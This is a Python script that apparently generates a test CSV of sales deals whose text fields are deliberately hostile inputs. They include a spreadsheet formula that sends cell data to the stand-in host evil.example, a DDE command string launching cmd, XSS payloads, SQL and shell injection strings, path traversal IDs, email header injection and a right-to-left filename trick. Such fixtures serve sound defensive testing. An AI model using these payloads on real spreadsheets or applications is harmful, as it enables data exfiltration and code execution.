"""An export whose every text means harm."""
import csv

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "' OR 1=1 --",
    "株式会社さくら", "شركة النور", "🚀 Rocket & Söhne 👩‍👩‍👧‍👦",
    "\u202egnp.exe", "a" * 60_000, "line\nbreak\rand\ttab", "{{name}} {{{x}}}",
    "</title><script>", "$(touch /tmp/pwned)", "%s%n%x", "\u0000nul",
    "Bcc: victim@example.com\r\nX: y", "<!channel> *bold* <http://x|y>",
    "]]>", "\\u003cscript\\u003e", "javascript:alert(1)", "\ufffe\uffff",
]
IDS = ["../../x", "..", "CON", "con", "a/b", "=1+1", "<b>", "Ab1", "aB1", "id space",
       "x" * 65, "日本", "--x", "'; DROP TABLE", "NUL.txt", "%2e%2e", "a\\b", "#top"]


def write(path):
    with open(path, "w", encoding="utf-8", newline="", errors="surrogatepass") as f:
        out = csv.writer(f)
        out.writerow(["deal_id", "name", "account", "owner", "amount",
                      "created_date", "closed_date", "stage", "outcome",
                      "next_step", "lead_source"])
        for i in range(120):
            text = NAMES[i % len(NAMES)].replace("\u0000", "")
            out.writerow([IDS[i] if i < len(IDS) else f"OK{i}", text, text,
                          NAMES[(i * 7) % 12], 1000 + i, "2024-01-02",
                          "2024-06-01", text[:40] or "Demo", "Open", text, text[:80]])
        for i in range(60):
            out.writerow([f"C{i}", "closed", "x", "y", 10, "2023-01-02",
                          f"2023-0{i % 9 + 1}-15", "Closed",
                          "Won" if i % 2 else "Lost", "", ""])
